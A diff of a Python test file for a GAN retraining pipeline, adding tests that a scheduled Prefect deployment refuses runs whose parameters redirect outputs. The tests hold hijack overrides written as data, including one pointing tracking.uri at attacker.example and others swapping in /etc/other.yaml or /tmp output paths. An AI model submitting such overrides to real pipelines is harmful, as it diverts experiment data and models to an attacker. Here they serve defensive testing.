@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import re
 import shutil
 import subprocess
 import sys
@@ -23,6 +24,7 @@ import ray
 from prefect.client.orchestration import get_client
 from prefect.settings import PREFECT_API_URL, temporary_settings
 
+from gan_models.errors import GanOpsError
 from pipelines.flows import retrain
 from pipelines.registry import CHAMPION, Registry
 from pipelines.tracking import RUN_NAME_TAG
@@ -188,10 +190,18 @@ def test_unlabelled_celeba_flow_ends_with_a_champion_ranked_by_inception_fid(
     assert champion.metrics["inception_fid"] == pytest.approx(result["metrics"]["inception_fid"])
 
 
-def test_schedule_creates_a_deployment_with_cron_and_parameters(
+def test_schedule_serves_a_deployment_whose_runs_cannot_point_outputs_elsewhere(
     services: dict[str, str], project: Path
 ) -> None:
-    env = {"PREFECT_API_URL": services["prefect"], "PATH": str(Path(sys.executable).parent)}
+    """`ganops schedule` serves a cron deployment with the config as parameters; anyone with the Prefect
+    UI can start a run of it with other parameters, and one that points tracking elsewhere is refused."""
+    from prefect.deployments import run_deployment
+
+    env = {
+        "PREFECT_API_URL": services["prefect"],
+        "PATH": str(Path(sys.executable).parent),
+        "PREFECT_RUNNER_POLL_FREQUENCY": "1",
+    }
     command = [
         sys.executable, "-m", "pipelines", "schedule", "--cron", "0 3 * * 1", "--name", "weekly",
         "--set", "train.epochs=3",
@@ -215,13 +225,42 @@ def test_schedule_creates_a_deployment_with_cron_and_parameters(
             while found is None and time.monotonic() < deadline and server.poll() is None:
                 found = asyncio.run(deployment())
                 time.sleep(1)
+            assert found is not None, server.stdout.read().decode(errors="replace")[-3000:]
+            hijack = ["train.epochs=3", "tracking.uri=http://attacker.example:5000"]
+            run = run_deployment("retrain/weekly", parameters={"overrides": hijack}, timeout=240)
     finally:
         stop(server)
-    assert found is not None, server.stdout.read().decode(errors="replace")[-3000:]
     (schedule,) = found.schedules
     assert schedule.schedule.cron == "0 3 * * 1" and schedule.active
     assert found.parameters["overrides"] == ["train.epochs=3"]
     assert found.parameters["project"] == str(project)
+    assert run.state is not None and run.state.is_failed(), run.state
+    assert "may not override tracking.uri" in str(run.state.message) + str(
+        run.state.result(raise_on_failure=False)
+    )
+
+
+def test_a_served_run_keeps_its_project_and_params_file_and_overrides_only_what_is_allowed(
+    project: Path,
+) -> None:
+    from pipelines.flows import check_served_run
+
+    served = {
+        "config_path": "params.yaml",
+        "overrides": ["tracking.uri=http://mlflow:5000"],
+        "project": str(project),
+    }
+    check_served_run("params.yaml", ["tracking.uri=http://mlflow:5000", "train.epochs=7", "model.d_features=8"],
+                     str(project), served)  # fmt: skip
+    for key, value in (("project", "/"), ("config_path", "/etc/other.yaml")):
+        with pytest.raises(GanOpsError, match=f"served with {key}=.*may not change it"):
+            check_served_run(**({"config_path": "params.yaml", "overrides": [], "project": str(project)} | {key: value}),
+                             served=served)  # fmt: skip
+    for hijack in ("tracking.uri=http://elsewhere", "train.output_dir=/tmp/x", "train={output_dir: /tmp/x}",
+                   "tracking.trusted_models=[models:/x/1]", "flow.served_overrides=['*']", "ray.address=x:1"):  # fmt: skip
+        key = hijack.partition("=")[0]
+        with pytest.raises(GanOpsError, match=f"may not override {re.escape(key)} "):
+            check_served_run("params.yaml", [hijack], str(project), served)
 
 
 @pytest.mark.slow
